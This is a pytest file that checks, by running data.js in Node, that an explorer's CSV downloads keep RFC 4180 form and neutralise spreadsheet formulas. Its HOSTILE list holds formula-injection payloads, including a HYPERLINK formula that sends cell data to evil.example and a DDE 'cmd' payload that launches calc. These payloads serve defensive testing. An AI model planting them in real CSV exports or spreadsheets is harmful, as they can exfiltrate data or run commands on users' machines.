"""The explorer's CSV downloads (server/static/data.js) run in Node on hostile dimension values, read back with
Python's csv module: RFC 4180 rows, and no cell a spreadsheet would run as a formula."""

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest

NODE = shutil.which("node")
DATA_JS = Path(__file__).resolve().parent.parent / "server" / "static" / "data.js"

pytestmark = pytest.mark.skipif(NODE is None, reason="needs Node.js to run the page's modules")

# Dimension values as they may come back from the API (a ping's os, architecture or label is free text).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "Linux\r=1+1",  # a carriage return that, unquoted, starts a new row beginning with a formula
    "Darwin\n@cmd",
    'quoted "value", with a comma',
    "Windows_NT",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def run_module(expression: str) -> str:
    """Evaluate a JavaScript expression with data.js's exports in scope; returns what it evaluates to."""
    script = f"import * as data from {json.dumps(DATA_JS.as_uri())};\nprocess.stdout.write({expression});\n"
    done = subprocess.run([NODE, "--input-type=module", "-e", script], capture_output=True, check=True, timeout=30)
    return done.stdout.decode()  # as bytes: text mode would turn every CR into a LF


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def expected(value: str) -> str:
    return f"'{value}" if value.startswith(FORMULA_START) else value


def test_distribution_csv_is_rfc_4180_with_formulas_neutralised():
    shown = [{"name": name, "entries": [{"histogram": [3, 1], "count": 2}]} for name in HOSTILE]
    text = run_module(f"data.distributionCsv({json.dumps(shown)}, ['0', '-1'])")
    # Every row ends with CRLF; no CR or LF appears but in a quoted cell.
    unquoted = "".join(part for i, part in enumerate(text.split('"')) if i % 2 == 0)
    assert unquoted.count("\r\n") == 1 + 2 * len(HOSTILE) == unquoted.count("\n") == unquoted.count("\r")
    rows = parse(text)
    assert rows[0] == ["series", "bucket", "count", "percent"]
    assert len(rows) == 1 + 2 * len(HOSTILE)
    for i, name in enumerate(HOSTILE):
        first, second = rows[1 + 2 * i], rows[2 + 2 * i]
        assert first == [expected(name), "0", "3", "75.0000"]
        assert second == [expected(name), "-1", "1", "25.0000"]  # a number is no formula: left as it is
    assert not any(cell.startswith(FORMULA_START) and cell != "-1" for row in rows for cell in row)


def test_evolution_csv_quotes_and_neutralises_the_series_name():
    entry = {"date": "20261101", "count": 4, "histogram": [1, 2], "sum": -7, "mean": -1.5, "percentiles": {}}
    shown = [{"name": name, "entries": [entry]} for name in HOSTILE]
    rows = parse(run_module(f"data.evolutionCsv({json.dumps(shown)})"))
    assert len(rows) == 1 + len(HOSTILE)
    assert [row[0] for row in rows[1:]] == [expected(name) for name in HOSTILE]
    assert all(row[1:6] == ["20261101", "4", "3", "-7", "-1.5"] for row in rows[1:])
